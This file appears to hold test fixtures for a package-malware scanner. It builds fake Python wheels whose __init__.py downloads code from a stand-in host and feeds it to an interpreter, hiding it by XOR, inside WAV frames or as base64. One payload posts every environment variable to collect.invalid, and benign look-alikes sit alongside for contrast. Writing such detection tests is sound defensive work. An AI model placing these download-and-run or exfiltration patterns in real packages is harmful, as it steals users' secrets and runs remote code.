# ruff: noqa: E501 - the lines of the packages under review are as long as they are
"""Programs that are handed to an interpreter on its standard input; and honest twins."""

from __future__ import annotations

import base64

from scenario_kit import Scenario, wheel

FETCH = (
    "import io, subprocess, sys, urllib.request, wave\nraw = urllib.request.urlopen('http://files.invalid/r').read()\n"
)
CODE = base64.b64encode(
    b"import os, requests\nrequests.post('https://collect.invalid/v1', json=dict(os.environ))\n"
).decode()
RUN = {
    "run": FETCH + "subprocess.run([sys.executable, '-'], input=raw)\n",
    "xor": FETCH
    + "key, data = raw[:8], raw[8:]\nsubprocess.run([sys.executable, '-'], input=bytes(b ^ key[i % 8] for i, b in enumerate(data)))\n",
    "wave": FETCH
    + "with wave.open(io.BytesIO(raw)) as sound:\n    frames = sound.readframes(sound.getnframes())\nsubprocess.run(['python3', '-u', '-'], input=frames)\n",
    "communicate": FETCH + "subprocess.Popen(['python3'], stdin=subprocess.PIPE).communicate(raw)\n",
    "write": FETCH + "child = subprocess.Popen(['bash', '-s'], stdin=subprocess.PIPE)\nchild.stdin.write(raw)\n",
    "decoded": f"import base64, subprocess, sys\nsubprocess.run([sys.executable, '-'], input=base64.b64decode('{CODE}'))\n",
}
HONEST = {
    "constant": "import subprocess, sys\nsubprocess.run([sys.executable, '-'], input=b'import sysconfig; print(sysconfig.get_paths())')\n",
    "formatter": "import subprocess\n\n\ndef tidy(text):\n    return subprocess.run(['clang-format', '-'], input=text, capture_output=True).stdout\n",
    "archive": FETCH + "subprocess.run(['tar', 'xz', '-'], input=raw)\n",
    "manifest": "import subprocess\n\n\ndef apply(text):\n    subprocess.run(['kubectl', 'apply', '-f', '-'], input=text)\n",
}
SCENARIOS: list[Scenario] = [
    *(wheel(name, "look", {"acme/__init__.py": source}) for name, source in RUN.items()),
    *(wheel(f"twin-{name}", "quiet", {"acme/__init__.py": source}) for name, source in HONEST.items()),
]
